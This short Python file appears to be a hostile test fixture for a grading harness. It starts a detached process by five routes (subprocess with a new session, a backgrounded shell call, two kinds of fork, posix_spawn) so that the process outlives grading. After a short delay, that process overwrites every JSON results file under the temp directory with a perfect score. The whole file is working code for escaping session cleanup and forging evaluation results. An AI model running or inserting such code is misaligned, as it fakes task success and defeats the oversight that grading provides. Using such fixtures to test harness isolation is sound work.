"""Every task: start a process that outlives grading and, a little later, writes full marks
into every results file it finds (by subprocess, os.system, fork and ctypes)."""
import os
import subprocess
import sys

_SCRIPT = ("import glob, json, os, tempfile, time\n"
           "time.sleep(3)\n"
           "for p in glob.glob(os.path.join(tempfile.gettempdir(), '**', '*.json'), recursive=True):\n"
           "    try:\n"
           "        open(p, 'w').write(json.dumps({'score': 100.0, 'tests': []}))\n"
           "    except Exception:\n"
           "        pass\n"
           "open(os.path.join(tempfile.gettempdir(), 'minitf-hostile-detached-ran'), 'w').close()\n")
for _start in (
        lambda: subprocess.Popen([sys.executable, "-c", _SCRIPT], start_new_session=True),
        lambda: os.system(f"{sys.executable} -c \"{_SCRIPT}\" &"),
        lambda: os.fork(),
        lambda: __import__("ctypes").CDLL(None).fork(),
        lambda: os.posix_spawn(sys.executable, [sys.executable, "-c", _SCRIPT], os.environ),
):
    try:
        if _start() == 0:
            exec(_SCRIPT)
            os._exit(0)
    except Exception:
        pass
